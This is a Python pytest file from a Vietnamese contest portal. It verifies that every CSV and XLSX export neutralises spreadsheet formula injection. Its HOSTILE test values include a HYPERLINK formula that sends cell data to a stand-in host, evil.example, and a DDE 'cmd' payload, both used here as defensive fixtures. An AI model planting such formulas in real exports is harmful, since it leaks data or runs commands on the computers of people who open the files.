"""No export carries a live formula: every CSV and XLSX the portal writes, read back."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

import portal
from portal import audit
from portal.exports.cells import csv_bytes, xlsx_row
from portal.exports.results_lists import DRAFT_MARK
from portal.extensions import db
from portal.models import Award, Entry, User
from tests.support.factories import make_user
from tests.support.results import build
from tests.support.web import login

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Xem")', "+1+1", "-2+3 kỳ",
           "@SUM(1,1)", "\t=1+1", "\r=cmd|' /C calc'!A0"]
PEN_NAME = "=1+2 Hồng Lĩnh"
AGENCY = "-3+4 Báo Hà Tĩnh"
REASON = "@SUM(A1:A9) thiếu hồ sơ"
JUDGE = "+Trần Thị Giám Khảo"
ACTOR = "=x@example.vn"
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def _risky(text: str) -> bool:
    return text.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(text)


@pytest.fixture
def hostile(app, client):
    """The results test edition with a formula in every field an export shows."""
    contest, _org, es = build()
    for i, entry in enumerate(es):
        entry.title = f"{HOSTILE[i % len(HOSTILE)]} {i}"
        entry.eligibility_reason = REASON
        for author in entry.authors:
            author.pen_name = PEN_NAME
        for part in entry.parts:
            part.outlet = AGENCY
    db.session.add(Award(contest_id=contest.id, entry_id=es[0].id, forwarded=True,
                         change_reason="", forward_reason=""))
    db.session.scalar(db.select(User).where(User.email == "gk1@example.vn")).full_name = JUDGE
    actor = make_user(ACTOR)
    audit.record("entry.submit", actor=actor, contest=contest, entry=es[0], obj=es[0],
                 after={"status": "submitted"})
    db.session.commit()
    login(client, "org@example.vn")
    return contest, [e.title for e in es]


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _check_csv(data: bytes, expected: set[str]) -> None:
    cells = _csv_cells(data)
    assert [c for c in cells if _risky(c)] == []
    missing = {e for e in expected if not any(c.startswith("'" + e) for c in cells)}
    assert not missing, missing  # the text is all there, behind the guard


def _check_xlsx(data: bytes, expected: set[str]) -> None:
    wb = load_workbook(io.BytesIO(data))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if _risky(cell.value):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    missing = {e for e in expected if not any(v.startswith(e) for v in seen)}
    assert not missing, missing  # the text is kept exactly


def test_registry_csv_has_no_formula(hostile, client):
    contest, titles = hostile
    data = client.get(f"/organize/{contest.slug}/entries.csv?drafts=1").data
    _check_csv(data, {*titles, PEN_NAME, AGENCY, REASON})


def test_audit_csv_has_no_formula(hostile, client):
    contest, _titles = hostile
    _check_csv(client.get(f"/organize/{contest.slug}/audit.csv").data, {ACTOR})


@pytest.mark.parametrize("which", ["prizes", "forwarded"])
def test_results_csv_has_no_formula(hostile, client, which):
    contest, titles = hostile
    data = client.get(f"/results/{contest.slug}/export/{which}.csv").data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == [DRAFT_MARK]  # not published: the draft line, then the headers
    rows = rows[1:]
    assert len(rows) > 1
    shown = {t for t in titles if any(r[2] == "'" + t for r in rows[1:])}
    assert shown
    _check_csv(data, {*shown, PEN_NAME, AGENCY})
    assert [r[0] for r in rows[1:]] == [str(n) for n in range(1, len(rows))]


def test_results_xlsx_has_no_formula(hostile, client):
    contest, titles = hostile
    data = client.get(f"/results/{contest.slug}/export/results.xlsx").data
    _check_xlsx(data, {*titles, PEN_NAME, AGENCY, JUDGE})
    prizes = load_workbook(io.BytesIO(data))["Danh sách đạt giải (dự thảo)"]  # not published
    first = [c.value for c in prizes[2]]
    assert isinstance(first[0], int) and isinstance(first[-1], float)  # numbers stay numbers
    assert first[2] in titles and first[5] == PEN_NAME and first[6] == AGENCY


def test_nomination_package_has_no_formula(hostile, client):
    contest, titles = hostile
    zf = zipfile.ZipFile(io.BytesIO(client.get(f"/results/{contest.slug}/export/"
                                               "nomination.zip").data))
    forwarded = db.session.scalar(db.select(Entry).join(Award, Award.entry_id == Entry.id)
                                  .where(Award.forwarded.is_(True)))
    _check_xlsx(zf.read("danh-sach-gui-giai-toan-quoc.xlsx"),
                {forwarded.title, PEN_NAME, AGENCY})
    # The rest is JSON (data and manifest), PDF and the works' own files: no spreadsheet.
    assert [n for n in zf.namelist() if n.endswith((".csv", ".xlsx"))] == [
        "danh-sach-gui-giai-toan-quoc.xlsx"]


def test_every_writer_uses_the_helper():
    """No module but portal/exports/cells.py makes a CSV writer, and every row appended to
    a sheet is made by xlsx_row: a new export cannot skip the guard unnoticed."""
    root = Path(portal.__file__).parent
    for path in root.rglob("*.py"):
        if path.name == "cells.py":
            continue
        text = path.read_text("utf-8")
        assert not re.search(r"csv\.(writer|DictWriter)\(", text), path
        for line in re.findall(r"\bws\.append\((.*)", text):
            assert line.startswith(("xlsx_row(", "row)")), (path, line)


def test_numbers_stay_numbers_and_text_is_guarded():
    """The helpers alone: negative numbers and plain numeric text are left as they are."""
    rows = [[-5, Decimal("-1.5"), -0.25, "-7", "+84,5", "-2+3", "=A1", "@x", "\tx", "a=b"]]
    assert csv_bytes(["h"], rows, bom=False).decode().splitlines()[1] == (
        "-5,-1.5,-0.25,-7,\"+84,5\",'-2+3,'=A1,'@x,'\tx,a=b")
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append(xlsx_row(ws, rows[0]))
    out = io.BytesIO()
    wb.save(out)
    cells = list(load_workbook(out)["x"].iter_rows())[0]
    assert [c.value for c in cells] == [-5, -1.5, -0.25, "-7", "+84,5", "-2+3", "=A1", "@x",
                                        "\tx", "a=b"]
    assert [c.data_type for c in cells] == ["n", "n", "n"] + ["s"] * 7
    assert [c.quotePrefix for c in cells] == [False] * 5 + [True] * 4 + [False]
